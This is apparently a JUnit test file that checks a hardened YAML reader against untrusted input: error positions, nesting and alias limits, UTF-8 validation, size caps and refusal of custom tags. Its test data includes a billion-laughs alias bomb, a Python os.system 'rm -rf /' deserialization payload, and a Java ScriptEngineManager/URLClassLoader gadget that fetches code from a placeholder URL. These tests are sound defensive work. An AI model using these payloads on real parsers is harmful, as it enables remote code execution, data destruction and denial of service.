package dev.bluerealm.internal.yaml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.bluerealm.model.LoadError;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** YamlReader on untrusted input: positions, limits (DESIGN §3), tags and YAML 1.2 core scalars. */
class YamlReaderTest {
    private final YamlReader reader = new YamlReader();

    private YamlDocument read(String yaml) {
        return reader.read("f.yaml", yaml.getBytes(StandardCharsets.UTF_8));
    }

    private static LoadError onlyError(YamlDocument doc) {
        assertEquals(1, doc.errors().size(), () -> "errors: " + doc.errors());
        assertNull(doc.root(), "a document with errors has no root");
        assertTrue(!doc.ok());
        return doc.errors().get(0);
    }

    private static void assertAt(LoadError e, int line, int column) {
        assertEquals("f.yaml", e.file(), e::toString);
        assertEquals(line, e.line(), e::toString);
        assertEquals(column, e.column(), e::toString);
    }

    private static void assertMessage(LoadError e, String... fragments) {
        for (String f : fragments) {
            assertTrue(e.message().contains(f), () -> "'" + e.message() + "' should contain '" + f + "'");
        }
    }

    private static Map<String, YamlNode.Scalar> scalars(YamlDocument doc) {
        assertTrue(doc.ok(), () -> "errors: " + doc.errors());
        Map<String, YamlNode.Scalar> out = new LinkedHashMap<>();
        for (YamlNode.Mapping.Entry e : assertInstanceOf(YamlNode.Mapping.class, doc.root()).entries()) {
            out.put(e.key().text(), assertInstanceOf(YamlNode.Scalar.class, e.value()));
        }
        return out;
    }

    // ------------------------------------------------------------------ well-formed input

    @Test
    void read_rfcLikeDocument_givesNodesWithPositions() {
        YamlDocument doc = read("name: s3-access\nmembers:\n  - aperture\n  - fungal-image-analysis\n");
        assertTrue(doc.ok());
        assertEquals("f.yaml", doc.file());
        YamlNode.Mapping root = assertInstanceOf(YamlNode.Mapping.class, doc.root());
        assertEquals(2, root.entries().size());
        YamlNode.Mapping.Entry name = root.entries().get(0);
        assertEquals("name", name.key().text());
        assertEquals(1, name.key().line());
        assertEquals(1, name.key().column());
        assertEquals("s3-access", ((YamlNode.Scalar) name.value()).text());
        assertEquals(7, name.value().column());
        YamlNode.Sequence members = assertInstanceOf(YamlNode.Sequence.class, root.entries().get(1).value());
        assertEquals(2, members.items().size());
        assertEquals(4, members.items().get(1).line());
        assertEquals(5, members.items().get(1).column());
    }

    @Test
    void read_emptyOrCommentOnly_hasNoRootAndNoError() {
        for (String text : List.of("", "# only a comment\n", "\n\n")) {
            YamlDocument doc = read(text);
            assertTrue(doc.ok(), () -> text + ": " + doc.errors());
            assertNull(doc.root());
        }
    }

    @Test
    void read_byteOrderMark_isSkipped() {
        YamlDocument doc = read("\uFEFFa: 1\n");
        assertEquals("a", scalars(doc).keySet().iterator().next());
    }

    @Test
    void read_explicitSingleDocument_isAccepted() {
        assertTrue(read("---\na: 1\n...\n").ok());
        assertTrue(read("%YAML 1.2\n---\na: 1\n").ok());
    }

    // ------------------------------------------------------------------ syntax errors

    @Test
    void read_secondColonOnALine_reportsItsLineAndColumn() {
        LoadError e = onlyError(read("name: x\nb: c: d\n"));
        assertAt(e, 2, 5);
        assertMessage(e, "YAML syntax", "mapping values are not allowed here");
    }

    @Test
    void read_overIndentedKey_reportsTheColon() {
        LoadError e = onlyError(read("name: x\n  bad: y\n"));
        assertAt(e, 2, 6);
        assertMessage(e, "YAML syntax");
    }

    @Test
    void read_tabIndentation_reportsTheTab() {
        LoadError e = onlyError(read("a:\n  b: 1\n\tc: 2\n"));
        assertAt(e, 3, 1);
        assertMessage(e, "YAML syntax", "TAB");
    }

    @Test
    void read_unclosedFlowSequence_reportsWhereItWentWrong() {
        LoadError e = onlyError(read("a: [1, 2\nb: 3\n"));
        assertAt(e, 2, 2);
        assertMessage(e, "flow sequence");
    }

    @Test
    void read_unterminatedQuote_reportsEndOfStream() {
        LoadError e = onlyError(read("a: \"abc\nb: 1\n"));
        assertAt(e, 3, 1);
        assertMessage(e, "quoted scalar", "end of stream");
    }

    @Test
    void read_nonScalarKey_isRefused() {
        LoadError e = onlyError(read("? [a, b]\n: 1\n"));
        assertAt(e, 1, 3);
        assertMessage(e, "mapping key", "a list");
    }

    // ------------------------------------------------------------------ duplicate keys

    @Test
    void read_duplicateKey_namesBothLines() {
        LoadError e = onlyError(read("a: 1\nb: 2\na: 3\n"));
        assertAt(e, 3, 1);
        assertMessage(e, "duplicate key 'a'", "first at line 1");
    }

    @Test
    void read_duplicateNestedKey_namesBothLines() {
        LoadError e = onlyError(read("top:\n  k: 1\n  other: 2\n  k: 3\n"));
        assertAt(e, 4, 3);
        assertMessage(e, "duplicate key 'k'", "first at line 2");
    }

    @Test
    void read_duplicateKeysInTwoMappings_reportsEach() {
        YamlDocument doc = read("a:\n  x: 1\n  x: 2\nb:\n  y: 1\n  y: 2\n");
        assertEquals(2, doc.errors().size(), () -> "errors: " + doc.errors());
        assertAt(doc.errors().get(0), 3, 3);
        assertAt(doc.errors().get(1), 6, 3);
    }

    @Test
    void read_sameKeyQuotedAndPlain_isADuplicate() {
        LoadError e = onlyError(read("a: 1\n\"a\": 2\n"));
        assertAt(e, 2, 1);
        assertMessage(e, "duplicate key 'a'", "first at line 1");
    }

    // ------------------------------------------------------------------ nesting

    private static String flowNesting(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    private static String blockNesting(int depth) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            out.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        out.setLength(out.length() - 1);
        return out.append(" leaf\n").toString();
    }

    @Test
    void read_nesting64_isAccepted() {
        assertTrue(read(flowNesting(64)).ok());
        assertTrue(read(blockNesting(64)).ok(), () -> read(blockNesting(64)).errors().toString());
    }

    @Test
    void read_nesting65_isRefused() {
        LoadError e = onlyError(read(flowNesting(65)));
        assertAt(e, 1, 65);
        assertMessage(e, "nested deeper than 64 levels");
        LoadError block = onlyError(read(blockNesting(65)));
        assertEquals(65, block.line(), block::toString);
        assertMessage(block, "nested deeper than 64 levels");
    }

    @Test
    void read_deepNestingBomb_isRefusedQuickly() {
        LoadError e = onlyError(read(flowNesting(100_000)));
        assertMessage(e, "nested deeper than 64 levels");
    }

    // ------------------------------------------------------------------ aliases

    private static String aliases(String anchor, int count) {
        StringBuilder out = new StringBuilder("a: &x " + anchor + "\nb:\n");
        for (int i = 0; i < count; i++) {
            out.append("  - *x\n");
        }
        return out.toString();
    }

    @Test
    void read_100Aliases_isAccepted() {
        assertTrue(read(aliases("1", 100)).ok());
        assertTrue(read(aliases("[1]", 100)).ok());
    }

    @Test
    void read_101Aliases_isRefused() {
        for (String anchor : List.of("1", "[1]", "{k: v}")) {
            LoadError e = onlyError(read(aliases(anchor, 101)));
            assertAt(e, 103, 5);
            assertMessage(e, "more than 100 aliases");
        }
    }

    @Test
    void read_aliasOfAnchor_sharesTheNode() {
        YamlDocument doc = read("a: &x {k: v}\nb: *x\n");
        YamlNode.Mapping root = (YamlNode.Mapping) doc.root();
        assertTrue(root.entries().get(0).value() == root.entries().get(1).value());
    }

    /** The classic attack: 9 levels, each an anchored list of 10 aliases of the level below (10^9 nodes). */
    static String billionLaughs() {
        StringBuilder out = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\","
                + "\"lol\",\"lol\"]\n");
        for (char level = 'b'; level <= 'i'; level++) {
            out.append(level).append(": &").append(level).append(" [");
            for (int i = 0; i < 10; i++) {
                out.append(i == 0 ? "" : ",").append('*').append((char) (level - 1));
            }
            out.append("]\n");
        }
        return out.toString();
    }

    @Test
    void read_billionLaughs_isRefusedWithTheExpansionMessage() {
        YamlDocument doc = read(billionLaughs()); // returns at all: nothing was expanded
        LoadError e = onlyError(doc);
        assertMessage(e, "aliases expand to more than 10000 nodes");
    }

    @Test
    void read_smallExpansion_isAccepted() {
        // 3 levels of 10: 1,000 leaves, well under 10,000 nodes
        String yaml = "a: &a [1,1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
                + "c: [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\n";
        assertTrue(read(yaml).ok(), () -> read(yaml).errors().toString());
    }

    @Test
    void read_moreThan10000WrittenNodesWithoutAliases_isAccepted() {
        // DESIGN §3 limits alias *expansion*; a long list written out in full (well under 1 MiB) uses no alias
        StringBuilder yaml = new StringBuilder("paths:\n");
        for (int i = 0; i < 12_000; i++) {
            yaml.append("  - p").append(i).append('\n');
        }
        YamlDocument doc = read(yaml.toString());
        assertTrue(doc.ok(), () -> "a file without aliases was refused: " + doc.errors());
    }

    @Test
    void read_unknownAnchor_isRefused() {
        LoadError e = onlyError(read("a: 1\nb: *nope\n"));
        assertAt(e, 2, 4);
        assertMessage(e, "*nope", "no earlier anchor");
    }

    @Test
    void read_aliasBeforeItsAnchor_isRefused() {
        LoadError e = onlyError(read("a: *x\nb: &x 1\n"));
        assertAt(e, 1, 4);
        assertMessage(e, "*x");
    }

    // ------------------------------------------------------------------ documents

    @Test
    void read_twoDocuments_isRefusedAtTheSecond() {
        LoadError e = onlyError(read("a: 1\n---\nb: 2\n"));
        assertAt(e, 2, 1);
        assertMessage(e, "more than one YAML document");
    }

    @Test
    void read_twoExplicitDocuments_isRefusedAtTheSecond() {
        LoadError e = onlyError(read("---\na: 1\n...\n---\nb: 2\n"));
        assertAt(e, 4, 1);
        assertMessage(e, "more than one YAML document");
    }

    // ------------------------------------------------------------------ encoding and size

    @Test
    void read_surrogatePairAcrossTheParsersBuffer_isReadWithoutThrowing() {
        // snakeyaml-engine reads 1025 chars at a time; an emoji whose high surrogate ends a chunk
        // (char 1024, 2049, ...) made it read past its buffer: IndexOutOfBoundsException from read()
        for (int before : new int[] {1019, 1020, 1021, 1022, 2046, 3071}) {
            String text = "a: " + "x".repeat(before) + "\uD83D\uDE00 \uD83D\uDE00\n";
            YamlDocument doc;
            try {
                doc = read(text);
            } catch (RuntimeException e) {
                throw new AssertionError("read() threw on valid YAML with an emoji at char " + (3 + before), e);
            }
            assertTrue(doc.ok(), () -> doc.errors().toString());
            assertEquals("x".repeat(before) + "\uD83D\uDE00 \uD83D\uDE00", scalars(doc).get("a").text());
        }
    }

    @Test
    void read_invalidUtf8_reportsLineAndColumnOfTheBadByte() {
        byte[] bytes = concat("name: ok\nb: x".getBytes(StandardCharsets.US_ASCII), new byte[] {(byte) 0xff},
                "\n".getBytes(StandardCharsets.US_ASCII));
        LoadError e = onlyError(reader.read("f.yaml", bytes));
        assertAt(e, 2, 5);
        assertMessage(e, "invalid UTF-8", "0xff", "offset 13");
    }

    @ParameterizedTest
    @CsvSource({
        "c0 80, 0xc0",        // overlong NUL
        "ed a0 80, 0xed",     // UTF-16 surrogate encoded in UTF-8
        "e2 82, 0xe2",        // truncated at end of file
        "80, 0x80",           // stray continuation byte
        "f5 80 80 80, 0xf5",  // beyond U+10FFFF
    })
    void read_malformedSequences_areRefusedAtTheirFirstByte(String hex, String reported) {
        String[] parts = hex.split(" ");
        byte[] bad = new byte[parts.length];
        for (int i = 0; i < parts.length; i++) {
            bad[i] = (byte) Integer.parseInt(parts[i], 16);
        }
        LoadError e = onlyError(reader.read("f.yaml", concat("a: ".getBytes(StandardCharsets.US_ASCII), bad)));
        assertAt(e, 1, 4);
        assertMessage(e, "invalid UTF-8", reported);
    }

    @Test
    void read_exactly1MiB_isAccepted() {
        byte[] bytes = commentLines(1024 * 1024);
        assertEquals(1024 * 1024, bytes.length);
        assertTrue(reader.read("f.yaml", bytes).ok());
    }

    @Test
    void read_over1MiB_isRefusedBeforeParsing() {
        byte[] bytes = commentLines(1024 * 1024 + 1);
        LoadError e = onlyError(reader.read("f.yaml", bytes));
        assertEquals(0, e.line());
        assertMessage(e, "1048577 bytes", "1 MiB");
        // even when the excess bytes are not UTF-8 or YAML at all
        byte[] garbage = new byte[2 * 1024 * 1024];
        Arrays.fill(garbage, (byte) 0xff);
        assertMessage(onlyError(reader.read("f.yaml", garbage)), "the limit is 1048576");
    }

    private static byte[] commentLines(int size) {
        byte[] line = "# a line of comment text, padding the file\n".getBytes(StandardCharsets.US_ASCII);
        ByteArrayOutputStream out = new ByteArrayOutputStream(size);
        while (out.size() + line.length <= size) {
            out.write(line, 0, line.length);
        }
        while (out.size() < size) {
            out.write('\n');
        }
        return out.toByteArray();
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.write(p, 0, p.length);
        }
        return out.toByteArray();
    }

    // ------------------------------------------------------------------ tags

    @Test
    void read_pythonObjectTag_isRefused() {
        LoadError e = onlyError(read("a: !!python/object:os.system foo\n"));
        assertAt(e, 1, 4);
        assertMessage(e, "unsupported YAML tag", "python/object");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "a: !!python/object/apply:os.system [\"rm -rf /\"]\n",
        "a: !!python/object:evil.Class {x: 1}\n",
        "a: !custom [1]\n",
        "a: !!set {x: null}\n",
        "a: !!omap [{x: 1}]\n",
        "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
    })
    void read_customTagOnACollection_isRefused(String yaml) {
        YamlDocument doc = read(yaml);
        assertTrue(!doc.ok(), () -> "accepted a custom tag on a collection: " + yaml.strip());
        assertMessage(doc.errors().get(0), "unsupported YAML tag");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: !custom x\n", "a: !!binary aGVsbG8=\n", "a: !!timestamp 2026-01-24\n",
        "%TAG !e! tag:example.com,2000:\n---\na: !e!foo 1\n"})
    void read_customScalarTag_isRefused(String yaml) {
        assertMessage(onlyError(read(yaml)), "unsupported YAML tag");
    }

    @Test
    void read_coreSchemaTags_areAccepted() {
        Map<String, YamlNode.Scalar> s = scalars(read("a: !!str 1\nb: !!int \"2\"\nc: !!bool \"true\"\n"
                + "d: !!null \"\"\ne: !!float \"1.5\"\nf: ! 12\n"));
        assertEquals(YamlNode.Scalar.Type.STRING, s.get("a").type());
        assertEquals(YamlNode.Scalar.Type.INT, s.get("b").type());
        assertEquals(YamlNode.Scalar.Type.BOOL, s.get("c").type());
        assertEquals(YamlNode.Scalar.Type.NULL, s.get("d").type());
        assertEquals(YamlNode.Scalar.Type.FLOAT, s.get("e").type());
        assertEquals(YamlNode.Scalar.Type.STRING, s.get("f").type(), "the non-specific tag ! makes a string");
        assertTrue(read("a: !!map {x: 1}\nb: !!seq [1]\n").ok());
    }

    // ------------------------------------------------------------------ YAML 1.2 core schema

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        // YAML 1.1 booleans and friends are plain strings in 1.2
        "yes|STRING", "no|STRING", "on|STRING", "off|STRING", "y|STRING", "n|STRING", "Yes|STRING", "NO|STRING",
        "On|STRING",
        // core booleans
        "true|BOOL", "false|BOOL", "True|BOOL", "FALSE|BOOL", "tRUE|STRING",
        // core nulls
        "null|NULL", "Null|NULL", "NULL|NULL", "~|NULL", "nULL|STRING",
        // core integers
        "0|INT", "-1|INT", "+12|INT", "012|INT", "0x1F|INT", "0xff|INT", "0o17|INT", "0o8|STRING", "0X1F|STRING",
        "0b101|STRING", "1_000|STRING", "0x|STRING",
        // core floats
        "1e3|FLOAT", "1E3|FLOAT", "1.0|FLOAT", "-1.5|FLOAT", ".5|FLOAT", "1.|FLOAT", "+1.5e-3|FLOAT",
        ".inf|FLOAT", "-.Inf|FLOAT", ".NaN|FLOAT", "inf|STRING", "nan|STRING", "1e|STRING", "1.2.3|STRING",
        // others YAML 1.1 would type
        "2026-01-24|STRING", "2026-01-24T10:00:00Z|STRING", "1:20|STRING", "<<|STRING", "=|STRING",
    })
    void read_plainScalar_resolvesAsTheCoreSchema(String text, YamlNode.Scalar.Type type) {
        YamlNode.Scalar s = scalars(read("k: " + text + "\n")).get("k");
        assertEquals(text, s.text());
        assertEquals(type, s.type(), text);
    }

    @Test
    void read_emptyValue_isNull() {
        assertEquals(YamlNode.Scalar.Type.NULL, scalars(read("k:\n")).get("k").type());
    }

    @Test
    void read_quotedScalars_areAlwaysStrings() {
        Map<String, YamlNode.Scalar> s = scalars(read("a: \"true\"\nb: 'null'\nc: \"0x1F\"\nd: '1e3'\ne: \"\"\n"
                + "f: |\n  yes\ng: >-\n  12\n"));
        s.forEach((k, v) -> assertEquals(YamlNode.Scalar.Type.STRING, v.type(), k));
        assertEquals("", s.get("e").text());
        assertEquals("yes\n", s.get("f").text());
        assertEquals("12", s.get("g").text());
    }

    @Test
    void read_mergeKey_isAnOrdinaryKey() {
        // YAML 1.2 has no merge keys: '<<' is just a key (and the decoder will call it unknown)
        YamlDocument doc = read("a: &x {k: 1}\nb:\n  <<: *x\n");
        assertTrue(doc.ok());
        YamlNode.Mapping b = (YamlNode.Mapping) ((YamlNode.Mapping) doc.root()).entries().get(1).value();
        assertEquals("<<", b.entries().get(0).key().text());
    }

    @Test
    void read_customLimits_areApplied() {
        YamlReader tight = new YamlReader(new YamlLimits(100, 2, 1, 5));
        assertMessage(onlyError(tight.read("f", new byte[101])), "the limit is 100");
        assertMessage(onlyError(tight.read("f", "[[[1]]]".getBytes(StandardCharsets.UTF_8))), "deeper than 2");
        assertMessage(onlyError(tight.read("f", "a: &x 1\nb: [*x, *x]\n".getBytes(StandardCharsets.UTF_8))),
                "more than 1 aliases");
        assertNotNull(tight.read("f", "a: 1\n".getBytes(StandardCharsets.UTF_8)).root());
    }
}
